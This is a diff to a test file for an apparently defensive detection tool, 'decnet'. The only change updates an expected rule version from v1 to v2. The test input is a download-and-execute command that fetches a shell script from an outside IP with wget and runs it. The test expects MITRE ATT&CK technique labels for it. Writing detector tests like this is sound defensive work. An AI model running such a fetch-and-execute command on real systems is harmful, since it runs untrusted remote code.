@@ -69,7 +69,7 @@ describe('decnet rules test', () => {
   it('says which rules fire on a command, with technique names and evidence', async (t) => {
     const run = await decnet(t, ['rules', 'test', 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'])
     assert.equal(run.code, 0, run.stderr)
-    assert.match(run.stdout, /^command-and-control\.ingress-tool-transfer \(v1, command\): wget http:\/\/203\.0\.113\.9\/x\.sh\n {2}T1105 +Ingress Tool Transfer {2}\[TA0011 Command and Control, confidence 0\.8\]\n/m)
+    assert.match(run.stdout, /^command-and-control\.ingress-tool-transfer \(v2, command\): wget http:\/\/203\.0\.113\.9\/x\.sh\n {2}T1105 +Ingress Tool Transfer {2}\[TA0011 Command and Control, confidence 0\.8\]\n/m)
     assert.match(run.stdout, /^execution\.unix-shell \(v1, command\): sh x\.sh$/m)
     const none = await decnet(t, ['rules', 'test', 'vim notes.txt'])
     assert.match(none.stdout, /^no rule fires \(ATT&CK 18\.1\)$/m)
